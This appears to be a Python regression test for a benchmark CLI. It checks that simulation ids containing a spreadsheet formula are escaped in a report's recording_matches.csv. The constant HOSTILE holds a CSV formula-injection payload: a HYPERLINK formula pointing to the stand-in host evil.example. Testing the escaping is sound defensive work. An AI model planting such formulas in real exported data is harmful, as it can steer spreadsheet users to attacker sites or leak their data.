"""A recorded id that a spreadsheet would run as a formula lands escaped in the report's
CSV (issue 42, item 3): ``=HYPERLINK(...)`` as a τ² simulation id, through the real
``run`` (replay) and its report, into ``tables/recording_matches.csv``."""

from __future__ import annotations

import csv
import json

from typer.testing import CliRunner

from realtext_corpus import TAU2_SAMPLE
from sscbench.cli import app

HOSTILE = '=HYPERLINK("http://evil.example/{}","click")'


def test_a_formula_id_lands_escaped_in_recording_matches(tmp_path):
    # the τ² results sample that ships with the examples: runs from a plain clone
    results = json.loads(TAU2_SAMPLE.read_text("utf-8"))
    for number, simulation in enumerate(results["simulations"]):
        simulation["id"] = HOSTILE.format(number)
    recording = tmp_path / "recording.json"
    recording.write_text(json.dumps(results), "utf-8")
    config = tmp_path / "study.toml"
    config.write_text(
        '[study]\nfirst_tool_call_only = false\n[world]\nsource = "tau-bench"\n'
        'domains = ["airline"]\n[cases]\noperators = ["ReturnDate"]\nper_operator = 20\n'
        '[[agents]]\nid = "r"\nkind = "replay"\n[agents.replay]\n'
        f'path = "{recording}"\nqualify = "completed"\n[user]\nkind = "replay"\n',
        "utf-8",
    )
    out = tmp_path / "study"
    result = CliRunner().invoke(app, ["run", str(config), "--out", str(out), "--no-progress"])
    assert result.exit_code == 0, result.output
    table = out / "report" / "tables" / "recording_matches.csv"
    with table.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    ids = [row["recording"] for row in rows]
    assert len(ids) == len(results["simulations"])
    assert all(i.startswith("'=HYPERLINK(") for i in ids), ids[:3]
    assert "'" + HOSTILE.format(0) in ids
    numbers = [row["score"] for row in rows]
    assert all(not n.startswith("'") for n in numbers)
